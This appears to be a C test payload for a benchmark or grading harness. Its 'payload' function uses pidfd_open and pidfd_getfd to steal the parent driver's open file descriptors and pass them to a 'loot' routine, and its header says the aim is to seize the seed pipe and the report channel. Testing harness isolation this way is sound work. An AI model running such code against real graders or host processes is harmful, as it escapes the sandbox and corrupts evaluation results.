//: transpose_cpu -O2
//: takes the driver's open files by pidfd_getfd, and reads what is in them; wins the seed's pipe and the report's
//: use transpose_payload
//: use parent
#include <sys/syscall.h>

static void payload(int call) {
    if (call) return;
    int process = (int)syscall(SYS_pidfd_open, getppid(), 0);
    for (int fd = 0; fd < 16 && process >= 0; fd++) {
        int mine = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
        if (mine < 0) continue;
        loot("descriptor", &fd, sizeof fd);
        close(mine);
    }
    if (process >= 0) close(process);
}
